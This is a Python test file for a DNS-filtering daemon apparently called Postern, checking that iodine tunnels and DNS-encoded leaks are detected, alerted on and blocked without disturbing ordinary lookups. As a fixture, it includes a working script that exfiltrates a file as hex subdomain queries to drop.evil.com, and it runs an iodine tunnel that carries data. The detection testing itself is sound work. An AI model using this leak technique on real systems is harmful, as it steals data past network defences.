# Tunnels: a real one through Postern is flagged, told, and cut; what runs beside it is not disturbed.
import hashlib
import json
import os
import threading

from cases import case, equal, holds
from dns_client import ask_udp
from iodine_client import DropBox, Iodine
from little_internet import UPSTREAM, LittleInternet
from postern_process import Daemon, run
from private_host import Namespace, temp_folder, wait_until, write
from recording_upstream import RecordingUpstream

LOOT = 20000            # octets that the tunnel is asked to carry
MOST_LOOT = 1024        # octets that may have arrived through a tunnel that was cut
MOST_FORWARDED = 60     # queries for the tunnel's zone that may have gone upstream
EXFILTRATED = 4000      # octets that the small encoder tries to leak
MOST_EXFILTRATED = 256  # octets of them that may have arrived: the zone's budget

BENIGN = ["www.example.com", "alias.example.com", "chain.example.com", "v4only.example.com",
          "ttl600.example.com",
          "files.example.org", "www.example.org", "www.example.net", "cdn.example.net", "www.tunnel.example"]


def alert_program():
    """(program, function that gives the alerts it was told, each the JSON object of its stdin)."""
    told = os.path.join(temp_folder(), "told")
    os.makedirs(told, exist_ok=True)
    program = write(os.path.join(temp_folder(), "tell"),
                    f"#!/bin/sh\nfile=$(mktemp {told}/.XXXXXX) && cat > $file && mv $file {told}/$$\n", 0o755)

    def alerts():
        found = []
        for file in sorted(os.listdir(told)):
            if not file.startswith("."):
                with open(os.path.join(told, file)) as text:
                    found.append(json.load(text))
        return found
    return program, alerts


class Benign:
    """Asks ordinary names all the while; `check` says that each was answered. Thread: its own."""

    def __init__(self, netns, names):
        self.netns, self.names, self.failures, self.asked, self.stop = netns, names, [], 0, threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop.wait(0.05):
            name = self.names[self.asked % len(self.names)]
            try:
                reply = ask_udp(name, netns=self.netns, timeout=10)
                holds(reply.rcode == 0 and reply.answer, f"{name}: {reply.rcode_name}")
            except Exception as failure:
                self.failures.append(repr(failure))
            self.asked += 1

    def check(self):
        wait_until(lambda: self.asked >= len(self.names) or self.failures, "ordinary questions", seconds=30)
        self.stop.set()
        self.thread.join()
        equal(self.failures[:5], [], f"{len(self.failures)} of {self.asked} ordinary questions")


def check_tunnel_is_cut(*iodine_options):
    """An iodine client in an attached namespace, an ordinary program in the same one and one in another."""
    LittleInternet(tunnel=True)
    program, told = alert_program()
    daemon, suspect, other = Daemon(alert_exec=program), Namespace("suspect"), Namespace("other")
    daemon.attach(suspect, session="night-job", user="mallory", code="bad0" * 16,
                  more=("--label", "team=red"))
    daemon.attach(other)
    box = DropBox()
    beside = [Benign(suspect.path, BENIGN[:-1]), Benign(other.path, BENIGN)]
    tunnel = Iodine(suspect, "127.0.0.1", *iodine_options)
    flagged = lambda: daemon.alerts("kind = 'tunnel'")
    wait_until(lambda: flagged() or tunnel.up(), f"the tunnel alert, or the tunnel: {tunnel.said()}", seconds=60)
    if tunnel.up() and not flagged():
        print("the tunnel came up before it was flagged")
        tunnel.send(LOOT)  # a handful of names was all it took; what carries data must be seen
    wait_until(flagged, "the tunnel alert", seconds=60)
    if tunnel.settle():
        tunnel.send(LOOT)
    tunnel.stop()
    for benign in beside:
        benign.check()
    holds(box.received <= MOST_LOOT, f"{box.received} octets came through")

    alert = daemon.alerts("kind = 'tunnel'")[0]
    equal((alert["sandbox"], alert["session"], alert["zone"], alert["action"]),
          ("suspect", "night-job", "tunnel.example", "block-zone"), alert)
    holds(0 < alert["score"] <= 1, alert)
    evidence = json.loads(alert["evidence"])
    weights = [part["weight"] for part in evidence["why"]]
    holds(weights == sorted(weights, reverse=True) and abs(sum(weights) - alert["score"]) < 0.01, evidence)
    tunnel_alerts = wait_until(lambda: [a for a in told() if a["kind"] == "tunnel"],
                               "the alert program is told")
    equal((tunnel_alerts[0]["session"], tunnel_alerts[0]["user"], tunnel_alerts[0]["zone"],
           tunnel_alerts[0]["code_sha256"],
           tunnel_alerts[0]["labels"]),
          ("night-job", "mallory", "tunnel.example", "bad0" * 16, {"team": "red"}))
    equal(len(tunnel_alerts), 1, "alerts for one tunnel")

    rows = daemon.rows("sandbox = 'suspect' AND registered_domain = 'tunnel.example'")
    forwarded = [row for row in rows if row["action"] == "allowed" and not row["cached"]]
    cut = [row for row in rows if row["reason"] == "tunnel"]
    holds(cut and all(row["rcode"] == "NXDOMAIN" for row in cut), "queries refused because of the tunnel")
    holds(len(forwarded) <= MOST_FORWARDED, f"{len(forwarded)} queries of the tunnel went upstream")
    equal([row for row in rows if row["id"] > cut[0]["id"] and row["action"] == "allowed"], [],
          "allowed after the cut")
    equal(daemon.rows("sandbox = 'other' AND action <> 'allowed'"), [], "the other sandbox")
    print(f"{len(forwarded)} tunnel queries went upstream, {len(cut)} were refused, {box.received} octets arrived")


@case("iodine without Postern carries data, so what the next cases cut is a working tunnel", seconds=120)
def _():
    LittleInternet(tunnel=True)
    free = Namespace("free")
    free.connect(1)
    box, tunnel = DropBox(), Iodine(free, UPSTREAM, "-T", "TXT")
    holds(tunnel.settle(), tunnel.said())
    holds(tunnel.send(LOOT, 30), tunnel.said())
    equal(box.received, LOOT)


@case("iodine that chooses its own record type is flagged, told and cut", seconds=180)
def _():
    check_tunnel_is_cut()


def _per_type(rtype):
    @case(f"iodine over {rtype} records is flagged, told and cut", seconds=180)
    def _():
        check_tunnel_is_cut("-T", rtype)


for _rtype in ("A", "CNAME", "MX", "SRV", "TXT"):
    _per_type(_rtype)


@case("a new sandbox of the same session finds the zone still blocked, another session does not", seconds=120)
def _():
    LittleInternet(tunnel=True)
    daemon, first, second, third = Daemon(), Namespace("first"), Namespace("second"), Namespace("third")
    daemon.attach(first, session="mole")
    tunnel = Iodine(first, "127.0.0.1", "-T", "TXT")
    wait_until(lambda: daemon.alerts("kind = 'tunnel'"), "the tunnel alert", seconds=60)
    tunnel.stop()
    daemon.command("detach", "--name", "first")
    daemon.attach(second, session="mole")
    daemon.attach(third, session="honest")
    equal(ask_udp("www.tunnel.example", netns=second.path).rcode_name, "NXDOMAIN")
    equal(ask_udp("www.tunnel.example", netns=third.path).rcode_name, "NOERROR")


_LEAK = """
import socket, sys
data = open(sys.argv[1], "rb").read()
for at in range(0, len(data), 24):
    try:
        socket.getaddrinfo(f"{at:04x}{data[at:at + 24].hex()}.drop.evil.com", None, socket.AF_INET)
    except OSError:
        pass
try:
    socket.getaddrinfo("www.example.com", None, socket.AF_INET)
    print("example.com works")
except OSError as failure:
    print(failure)
"""


@case("a program in postern run that spells a file in hex is flagged, told and cut")
def _():
    upstream = RecordingUpstream()
    program, told = alert_program()
    loot = os.path.join(temp_folder(), "loot")
    with open(loot, "wb") as file:
        file.write(os.urandom(EXFILTRATED))
    os.chmod(loot, 0o644)
    script = write(os.path.join(temp_folder(), "leak.py"), _LEAK)
    done = run("/usr/bin/python3", script, loot, upstream=upstream.text,
               options=("--session", "leaky", "--user", "eve", "--alert-exec", program, "--label",
                        "ticket=7"))
    equal((done.status, done.out.strip()), (0, "example.com works"), done)
    arrived = {}
    for seen in upstream.queries():
        if seen.name.endswith(".drop.evil.com"):
            label = seen.name.split(".")[0]
            arrived[int(label[:4], 16)] = len(bytes.fromhex(label[4:]))
    holds(0 < sum(arrived.values()) <= MOST_EXFILTRATED,
          f"{sum(arrived.values())} of {EXFILTRATED} octets arrived")
    alert = next(a for a in done.alerts() if a["kind"] == "tunnel")
    equal((alert["session"], alert["zone"], alert["action"]), ("leaky", "evil.com", "block-zone"), alert)
    object_told = wait_until(lambda: [a for a in told() if a["kind"] == "tunnel"],
                             "the alert program is told")[0]
    equal((object_told["user"], object_told["zone"], object_told["labels"]),
          ("eve", "evil.com", {"ticket": "7"}))
    equal(object_told["code_sha256"], hashlib.sha256(_LEAK.encode()).hexdigest(), "the script's hash")
    rows = done.rows("registered_domain = 'evil.com'")
    equal(len(rows), -(-EXFILTRATED // 24), "a row for each attempt")
    equal({r["code_sha256"] for r in done.rows()}, {object_told["code_sha256"]})
    print(f"{sum(arrived.values())} of {EXFILTRATED} octets arrived")


@case("under deny-all the first lookup is refused and an alert")
def _():
    upstream = RecordingUpstream()
    program, told = alert_program()
    daemon = Daemon(policy="default: allow\n", upstream=(upstream.text,), alert_exec=program)
    inside = Namespace("inside")
    daemon.attach(inside, policy="deny-all", session="quiet")
    for name in ("www.example.com", "www.example.net"):
        equal(ask_udp(name, netns=inside.path).rcode_name, "NXDOMAIN")
    alerts = wait_until(lambda: daemon.alerts(), "the alert")
    equal([(a["kind"], a["session"]) for a in alerts], [("first_query", "quiet")])
    told_once = wait_until(told, "the alert program is told")
    equal((told_once[0]["kind"], told_once[0]["name"]), ("first_query", "www.example.com"))
    equal(upstream.queries(), [], "what went upstream")
